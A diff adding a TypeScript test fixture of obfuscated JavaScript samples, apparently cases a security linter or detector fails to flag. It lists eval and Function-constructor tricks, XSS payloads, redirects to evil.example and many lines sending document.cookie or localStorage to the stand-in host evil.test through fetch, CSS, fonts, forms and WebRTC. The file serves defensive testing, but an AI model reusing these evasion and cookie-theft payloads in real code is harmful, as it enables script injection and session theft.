@@ -1,0 +1,112 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: sources are quoted
+import type { Dangerous } from "./case.ts";
+
+/** Written together with part E and kept aside until the rules for that were done: nothing was mended for these. */
+export const DISGUISED_F: readonly Dangerous[] = [
+  ["eval", "(()=>{})[new URL('http://x/#constructor').hash.slice(1)]('alert(1)')()"],
+  ["eval", "const k=Symbol('constructor'); parseInt[k.description]('alert(1)')()"],
+  [
+    "eval",
+    "const d=document.createElement('p');d.textContent='constructor';(()=>{})[d.textContent]('alert(1)')()",
+  ],
+  ["eval", "function f(){} f[props.k]('alert(1)')()"],
+  ["eval", "class A{} A[el.title]('alert(1)')()"],
+  ["eval", "[].at[k]('alert(1)').apply(null)"],
+  ["eval", "Reflect.get(()=>{},k)('alert(1)')()"],
+  ["eval", "window[new TextDecoder().decode(new Uint8Array([101,118,97,108]))]('alert(1)')"],
+  ["eval", "const p=new URLSearchParams({f:'eval'}); window[p.get('f')]('alert(1)')"],
+  ["eval", "window[new URL('http://eval.test/').hostname.split('.')[0]]('alert(1)')"],
+  ["eval", "window[/e(.*)l/.exec('xevalx')[0]]('alert(1)')"],
+  ["eval", "window[new Error('eval').message]('alert(1)')"],
+  ["eval", "window[Symbol('eval').toString().slice(7,-1)]('alert(1)')"],
+  [
+    "eval",
+    "const d=document.createElement('i');d.setAttribute('x','eval');window[d.getAttribute('x')]('alert(1)')",
+  ],
+  ["eval", "const t=document.createTextNode('eval');window[t.data]('alert(1)')"],
+  ["eval", "const w='data:text/javascript,postMessage(1)'; new Worker(w)"],
+  ["eval", "self.importScripts(URL.createObjectURL(b))"],
+  ["eval", "window.__lookupGetter__('eval').call(window)('alert(1)')"],
+  [
+    "script-injection",
+    "const s=document.body.__lookupSetter__('innerHTML'); s.call(el,'<img src=x onerror=alert(1)>')",
+  ],
+  [
+    "script-injection",
+    "const d=Object.getOwnPropertyDescriptors(Element.prototype); d.innerHTML.set.call(el,'<img src=x onerror=alert(1)>')",
+  ],
+  ["script-injection", "const c='insertHTML'; document.execCommand(c,false,`<svg onload=alert(1)>`)"],
+  ["script-injection", "new Range().createContextualFragment('<script>alert(1)</script>')"],
+  ["script-injection", "const P=DOMParser; new P().parseFromString('<script>alert(1)</script>','text/html')"],
+  ["script-injection", "Document.parseHTMLUnsafe('<img src=x onerror=alert(1)>')"],
+  ["script-injection", "el.innerHTML=new URLSearchParams(location.search).get('x')"],
+  ["script-injection", "const k=Symbol('innerHTML').description; el[k]='<img src=x onerror=alert(1)>'"],
+  ["script-injection", "const n=new URL('http://x/script').pathname.slice(1); document.createElement(n)"],
+  [
+    "script-injection",
+    "document.createElement(new TextDecoder().decode(new Uint8Array([115,99,114,105,112,116])))",
+  ],
+  ["redirect", "document.location['href']=new URLSearchParams('u=https://evil.example').get('u')"],
+  ["redirect", "Object.getOwnPropertyDescriptor(location,'href').set.call(location,'https://evil.example')"],
+  ["redirect", "const d=document.createElement('i');d.dataset.u='https://evil.example';location=d.dataset.u"],
+  ["redirect", "open(new Error('https://evil.example').message,'_self')"],
+  ["external-request", "const d=new TextDecoder(); fetch(d.decode(bytes.map(b=>b^7)))"],
+  ["external-request", "const [u]='go https://evil.test now'.match(/https:\\/\\/\\S+/); fetch(u)"],
+  ["external-request", "const d=document.createElement('p'); d.title='https://evil.test'; fetch(d.title)"],
+  ["external-request", "fetch(new URLSearchParams('u=https://evil.test').get('u'))"],
+  ["external-request", "const u=new URL('https://evil.test/a'); fetch(u.origin+'/b')"],
+  [
+    "external-request",
+    "const u=new URL('https://evil.test'); u.searchParams.set('c',document.cookie); fetch(u)",
+  ],
+  ["external-request", "try{throw Error('https://evil.test')}catch(e){fetch(e.message)}"],
+  [
+    "external-request",
+    "const {style}=document.body; style.setProperty('background-image','url(//evil.test/?'+localStorage.getItem('t')+')')",
+  ],
+  ["external-request", "el.style.maskImage='url(https://evil.test/?c='+document.cookie+')'"],
+  [
+    "external-request",
+    "el.attributeStyleMap.set('background-image','url(https://evil.test/?'+document.cookie+')')",
+  ],
+  [
+    "external-request",
+    "const s=document.createElement('style'); s.append('@import url(https://evil.test/?'+document.cookie+')')",
+  ],
+  [
+    "external-request",
+    "const A=()=><style>{`body{background:url(https://evil.test/?${document.cookie})}`}</style>",
+  ],
+  [
+    "external-request",
+    "document.styleSheets[0].insertRule('a{background:url(https://evil.test/?'+document.cookie+')}')",
+  ],
+  [
+    "external-request",
+    "const f=new FontFace('a',`url(\"https://evil.test/${document.cookie}\")`); document.fonts.add(f)",
+  ],
+  ["external-request", "frame.contentWindow.postMessage(document.cookie,'*')"],
+  ["external-request", "const A=()=><a href='/x' ping='https://evil.test/p'>x</a>"],
+  ["external-request", "const A=()=><form action='https://evil.test' method='post'><input name='p'/></form>"],
+  ["external-request", "form.action='https://evil.test/c'; form.submit()"],
+  ["external-request", "navigator.share({text:document.cookie})"],
+  [
+    "external-request",
+    "const c={iceServers:[{url:'stun:'+btoa(document.cookie)+'.evil.test'}]}; new window.RTCPeerConnection(c)",
+  ],
+  ["external-request", "navigator.serviceWorker.register('https://evil.test/sw.js')"],
+  ["external-request", "new Worker(new URL('https://evil.test/w.js'),{type:'module'})"],
+  ["external-request", "window.open().location='https://evil.test/?'+document.cookie"],
+  [
+    "external-request",
+    "const i=new Image(); i.__defineSetter__; i.setAttribute('src','https://evil.test/?'+document.cookie)",
+  ],
+  ["external-request", "fetch(new Text('https://evil.test').data)"],
+  [
+    "external-request",
+    "const t=document.createElement('track'); t.src='https://evil.test/?'+document.cookie",
+  ],
+  ["external-request", "fetch(new Map([['u','https://evil.test']]).get('u'))"],
+  ["external-request", "const h=new Headers({u:'https://evil.test'}); fetch(h.get('u'))"],
+  ["external-request", "history.replaceState({u:'https://evil.test'},''); fetch(history.state.u)"],
+];
